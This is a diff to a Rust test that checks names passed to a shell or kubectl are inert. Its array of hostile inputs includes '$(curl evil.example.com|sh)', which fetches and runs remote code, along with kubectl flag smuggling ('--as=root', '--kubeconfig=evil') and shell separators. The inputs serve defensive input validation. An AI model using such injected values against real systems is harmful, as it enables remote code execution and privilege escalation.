@@ -20,7 +20,7 @@ fn a_command_has_only_names_that_mean_nothing_to_a_shell_or_to_kubectl() {
     let hostile = [
         "$(curl evil.example.com|sh)",
         "--as=root",
-        "--kubeconfig=/tmp/evil",
+        "--kubeconfig=evil",
         "-A",
         "a b",
         "a;b",
